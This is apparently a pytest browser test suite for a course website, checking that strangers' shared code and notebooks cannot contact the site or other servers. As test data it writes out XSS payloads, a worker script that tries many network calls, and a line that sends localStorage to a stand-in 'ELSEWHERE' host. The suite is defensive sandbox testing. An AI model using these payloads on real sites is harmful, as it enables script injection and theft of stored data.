"""What strangers send, by a link or as a notebook, reaches nothing of the site."""

import json

import pytest
from edition import IS_OPEN, KEEP, PATIENCE, RESTORED, answer, serving
from lab import HAS_RUN
from test_edition_browser import PATH, RUN_ALL, SOURCES
from test_live_browser import DONE, ONE, Reader, takes_in

from sg_course.widgets.links import packed

nightly = pytest.mark.nightly
CELL = "353d824f"  # of page 01, in which a reader writes
IMPORTS, PREDICTS = "imports-1", "3ec42f87"  # of page 01, whose code nobody can change there
RULES = """from sg_course.widgets import PlayGame

def halves(n):
    return [n // 2] if n else []

PlayGame(halves, 5)"""
WORKER = """
const quietly = async (way) => { try { await way(); } catch {} };
const ways = [
  (to) => quietly(() => fetch(to, { mode: "no-cors" })),
  (to) => quietly(() => {
    const one = new XMLHttpRequest();
    one.open("GET", to, false);
    one.send();
  }),
  (to) => quietly(() => importScripts(to)),
  (to) => quietly(() => import(to)),
  (to) => quietly(() => new EventSource(to)),
  (to) => quietly(() => new WebSocket(to.replace("http", "ws"))),
  (to) => quietly(() => new Worker(to)),
];
for (const way of ways) for (const to of ["SITE/stolen", "ELSEWHERE/stolen"]) way(to);
quietly(async () => (await caches.open("stolen")).put(`${SITE}/x`, new Response("x")));
quietly(() => indexedDB.open("stolen"));
quietly(() => new BroadcastChannel("site").postMessage("stolen"));
"""
IN_WORKER = f"""import js
text = {WORKER!r}
for one in (js, js.self.constructor.prototype):
    for name, *given in (("fetch", "SITE/stolen"), ("fetch", "ELSEWHERE/stolen")):
        try:
            getattr(one, name)(*given)
        except BaseException:
            pass
js.Worker.new(js.URL.createObjectURL(js.Blob.new([text])))
try:
    from pyodide.code import run_js
    run_js(text)
except BaseException:
    pass
js.postMessage(js.JSON.parse('{{"do": "fetch", "number": 99, "file": "stolen", "method": "GET"}}'))
js.postMessage(js.JSON.parse('{{"do": "scripts", "texts": ["x"]}}'))
import time
end = time.monotonic() + 2
while time.monotonic() < end:
    pass
3 + 4"""
LEFT_BEHIND = """async () => [
    ...(await caches.keys()).filter(name => name === 'stolen'),
    ...(await indexedDB.databases()).map(({name}) => name).filter(name => name === 'stolen'),
    ...window.heard,
]"""
LISTENS = """window.heard = [];
new BroadcastChannel('site').onmessage = ({data}) => heard.push(data);"""
WIDGET = """import comm
class Mine:
    model_id = None
def opened(state):
    return comm.create_comm(target_name="jupyter.widget", data={{"state": state}}).comm_id
bad = "window.reached = 1; export const panel = {{}}; export default {{ render() {{}} }};"
from sg_course.widgets.base import front_end
script = opened({{"text": bad}})
Mine.model_id = opened({state})
Mine()"""
STATES = [
    '{"_esm": bad, "view": "{}"}',
    '{"_esm": front_end("panel"), "script": f"IPY_MODEL_{script}", "view": "{}"}',
]
HTML = [
    '<img src="x" onerror="window.reached = 1">',
    '<svg onload="window.reached = 1"></svg><script>window.reached = 1</script>',
    '<iframe srcdoc="<script>parent.reached = 1</script>"></iframe>',
    '<meta http-equiv="refresh" content="0; url=ELSEWHERE/stolen">',
    '<img src="ELSEWHERE/stolen"><p style="background: url(ELSEWHERE/stolen)">x</p>',
    '<style>@import "ELSEWHERE/stolen"; body { display: none }</style>',
    '<form action="ELSEWHERE/stolen"><button autofocus>Go</button></form>',
    '<a id="it" href="javascript:window.reached = 1">it</a>',
]
PICTURE = """from sg_course.widgets import SequenceExplorer
explorer = SequenceExplorer()
explorer.panel.still_svg = '<svg onclick="stolen()"><text>5</text></svg>'
explorer"""
KEPT = [
    '<label style="display: block"><input type="checkbox"> a</label>',
    '<img class="sg-board" alt="position: (1, 2)" src="data:image/svg+xml;base64,AA">',
    '<details><summary>x</summary><a href="01_x.html#a">y</a></details>',
    '<svg viewBox="0 0 1 1"><rect fill="none" tabindex="0" data-shape="1"></rect></svg>',
    '<table><tbody><tr><td style="text-align: left">1</td></tr></tbody></table>',
]
LOST = [
    '<a href="//stolen/x.html">x</a>',
    *('<a href="https://stolen">x</a>', '<a href="javascript:stolen">x</a>'),
    *('<img src="//stolen/x">', '<img srcset="https://stolen">'),
    '<p style="position: fixed; color: var(--stolen)">x</p>',
    '<svg><image href="https://stolen/x"></image><rect fill="url(//stolen)"></rect></svg>',
    '<p style="background: u\\72l(//stolen)" onclick="stolen">x</p><video src="/stolen"></video>',
    '<style>p { background: url(//stolen) }</style><base href="//stolen"><form action="/stolen">',
]
OUTPUT = """class Mine:
    def _repr_html_(self):
        return {html!r} + "<b>Shown</b>"
Mine()"""

SENDS = """from IPython.display import Javascript, display
display(Javascript("fetch('ELSEWHERE/stolen?' + encodeURIComponent(JSON.stringify(localStorage)))"))
"""
FOR_THE_LAB = """async work => (await import('./along.js')).forTheLab(
    {cells: [{cell_type: 'code', id: 'a', source: '1'}, {cell_type: 'code', id: 'b', source: '2'}],
     metadata: {}}, {old: {}, chosen: {}, widgets: {}, ...work})"""
PATH_ALONG = "async () => (await import('./along.js')).pathAlong('a.ipynb')"


class Noted(dict):
    """Files that take the place of others: each path that begins with "stolen", which is noted."""

    def __init__(self):
        super().__init__()
        self.asked = []

    def __contains__(self, path):
        if path.startswith("stolen"):
            self.asked.append(path)
        return path.startswith("stolen")

    def __getitem__(self, path):
        return b""


class Stranger(Reader):
    """A page with a stranger's code."""

    def runs(self, id="own", opener="Write here"):
        """Run the code; return what it shows."""
        if opener:
            self.cell(id).get_by_role("button", name=opener).click()
        self.cell(id).get_by_role("button", name="Run", exact=True).click()
        self.page.wait_for_function(DONE, arg=self.cell(id).element_handle())
        return self.cell(id).locator(".output, .sg-answer-line [role=status]").all_inner_texts()


@pytest.fixture
def sites(site, tmp_path):
    """The site, and another one; both note what is sent to them."""
    with serving(site) as here, serving(tmp_path) as elsewhere:
        here.replaced, elsewhere.replaced = Noted(), Noted()
        yield here, elsewhere


@pytest.fixture
def opens(windows, sites):
    """The function that opens a link with a text, or another page."""
    contexts = []

    def opens(text="", name="play"):
        contexts.append(windows.chromium.new_context(service_workers="block"))
        page = contexts[-1].new_page()
        page.add_init_script(LISTENS)
        return Stranger(page, sites[0].address, name, packed(text) if text else "")

    yield opens
    for context in contexts:
        context.close()


def addressed(text, sites):
    """Return a text with the addresses of the two sites."""
    return text.replace("SITE", sites[0].address).replace("ELSEWHERE", sites[1].address)


def nothing_was_reached(page, sites):
    """Nothing came to a server, was left behind, or runs in the page."""
    assert [site.replaced.asked for site in sites] == [[], []]
    assert page.evaluate(LEFT_BEHIND) == []
    assert page.evaluate("() => [window.reached, localStorage.reached]") == [None, None]
    assert page.url.startswith(sites[0].address)


def test_rules_by_link_play_hint_and_are_said_to_be_a_strangers(opens):
    blank = "\n" * 400
    stranger = opens(f"{RULES}{blank}{' ' * 5000}print(1)")
    stranger.page.get_by_text("9 lines with").wait_for()
    shown = stranger.cell("own").locator("pre")
    assert "print(1)" in shown.inner_text() and shown.bounding_box()["height"] < 400
    stranger = opens(RULES)
    stranger.page.get_by_text("reaches neither what this site keeps").wait_for()
    stranger.runs()
    play = stranger.widget("own")
    play.locator(".sg-quiet").click()
    play.get_by_role("button", name="Hint").click()
    play.get_by_text("some move wins").first.wait_for()
    assert stranger.page.evaluate("() => document.querySelector('iframe').contentDocument") is None


def test_code_by_link_reaches_neither_the_site_nor_the_network(opens, sites):
    stranger = opens(addressed(IN_WORKER, sites))
    assert "7" in stranger.runs()
    nothing_was_reached(stranger.page, sites)


@nightly
@pytest.mark.parametrize("state", STATES, ids=["front end", "script"])
@pytest.mark.parametrize("name", ["play", ONE])
def test_a_widget_with_a_script_of_its_own_is_not_drawn(opens, sites, name, state):
    code = WIDGET.format(state=state)
    stranger = opens(code if name == "play" else "", name)
    if name == "play":
        stranger.runs()
    else:
        stranger.writes(CELL, code)
    stranger.page.get_by_text("brings a script of its own").wait_for()
    nothing_was_reached(stranger.page, sites)


def test_the_picture_of_a_widget_loses_its_scripts(opens):
    stranger = opens(PICTURE)
    stranger.runs()
    picture = stranger.widget("own").locator(".sg-picture")
    picture.get_by_text("5", exact=True).wait_for()
    assert "<text" in picture.inner_html() and "stolen" not in picture.inner_html()


def test_html_keeps_what_the_collection_shows_and_loses_what_fetches_or_covers(opens):
    page = opens(name="my").page
    clean = "async html => (await import('./clean.mjs')).clean(html)"
    assert [html for html in KEPT if page.evaluate(clean, html) != html] == []
    assert [html for html in LOST if "stolen" in page.evaluate(clean, html)] == []


@nightly
@pytest.mark.parametrize("name", ["play", ONE])
def test_what_is_shown_as_html_runs_and_fetches_nothing(opens, sites, name):
    code = OUTPUT.format(html=addressed("".join(HTML), sites))
    stranger = opens(code if name == "play" else "", name)
    id = "own" if name == "play" else CELL
    shown = stranger.runs() if name == "play" else [stranger.writes(CELL, code)]
    assert "Shown" in "".join(shown)
    stranger.cell(id).get_by_text("it", exact=True).click()
    stranger.page.wait_for_timeout(500)
    nothing_was_reached(stranger.page, sites)


@nightly
def test_a_notebook_that_is_taken_in_reaches_nothing(opens, sites, tmp_path, site):
    file = notebook_of(site, tmp_path, {CELL: addressed(IN_WORKER, sites)})
    stranger = opens(name="my")
    assert "Taken in: " in takes_in(stranger, file)
    stranger.page.goto(f"{sites[0].address}/{ONE}.html")
    assert "7" in stranger.runs(CELL, opener=None)
    nothing_was_reached(stranger.page, sites)


def notebook_of(site, folder, changes):
    """The notebook of page 01 with other sources in some cells, as a file."""
    notebook = json.loads((site / "files" / f"{ONE}.ipynb").read_text("utf-8"))
    for cell in notebook["cells"]:
        cell["source"] = changes.get(cell["id"], cell["source"])
    (folder / "taken.ipynb").write_text(json.dumps(notebook), "utf-8")
    return folder / "taken.ipynb"


@pytest.mark.parametrize("has_run", [True, False])
def test_what_came_in_a_file_is_no_code_in_the_lab_and_has_a_notebook_of_its_own(opens, has_run):
    page = opens(name="my").page
    work = {"cells": {"a": "mine", "b": "theirs"}, "taken": {"b": not has_run}}
    cells = page.evaluate(FOR_THE_LAB, work)["cells"]
    assert [(one["id"], one["cell_type"]) for one in cells] == [
        *(("a", "code"), ("b", "code"), ("b-file", "raw"))
    ]
    head, theirs = cells[2]["source"].split("\n\n")
    assert head.startswith("# From a file") and theirs == "theirs"
    assert [one["source"] for one in cells[:2]] == ["mine", "2"]
    page.evaluate(KEEP, ["a.ipynb", work])
    before = page.evaluate(PATH_ALONG)
    page.evaluate(KEEP, ["a.ipynb", work | {"taken": {}}])
    assert before != page.evaluate(PATH_ALONG) != "a.ipynb"


def test_of_a_file_only_cells_are_taken_in_that_one_sees_on_the_page(opens, site, tmp_path):
    changes = {IMPORTS: "print(1)", PREDICTS: "print(2)", CELL: "print(3)"}
    stranger = opens(name="my")
    said = takes_in(stranger, notebook_of(site, tmp_path, changes))
    assert "Left out: 2 cells that nobody can change on the page." in said
    stranger.page.get_by_text(": 1 cell").wait_for()


@nightly
def test_a_notebook_that_is_taken_in_and_to_the_lab_sends_nothing(opens, sites, site, tmp_path):
    """Its code is in the imports, in a prediction, and in a cell in which one writes."""
    sends = addressed(SENDS, sites)
    stranger = opens(name="my")
    page = stranger.page
    page.evaluate("() => localStorage.setItem('secret', 'kept')")
    takes_in(stranger, notebook_of(site, tmp_path, dict.fromkeys((IMPORTS, PREDICTS, CELL), sends)))
    page.set_default_timeout(PATIENCE)
    page.goto(f"{stranger.address}/{ONE}.html")
    page.get_by_role("link", name="Lab", exact=True).click()
    page.wait_for_function("() => window.jupyterapp && !location.search")
    answer(page, RESTORED)
    page.wait_for_function(IS_OPEN, arg=page.evaluate(PATH))
    page.evaluate(RUN_ALL)
    page.wait_for_function(HAS_RUN)
    nothing_was_reached(page, sites)
    assert [text for text in page.evaluate(SOURCES) if text.startswith("# From a file")]


def test_a_sum_of_5000_games_is_stopped_and_a_text_that_ends_python_is_said(opens):
    games = ", ".join(["Nim()"] * 5000)
    stranger = opens(f"PlayGame(Sum({games}), ({'3, ' * 5000}))")
    place = stranger.presses("played")
    stranger.page.locator(".sg-foot").get_by_role("button", name="Stop").click()
    place.get_by_text("Stopped.").wait_for()
    stranger = opens("-" * 3000 + "1")
    assert "Python has ended" in "".join(stranger.runs())
    own = stranger.cell("own").locator(".cm-content")
    own.fill("3 + 4")
    stranger.page.locator(".sg-foot").get_by_role("button", name="Begin anew").click()
    assert "7" in stranger.runs(opener=None)
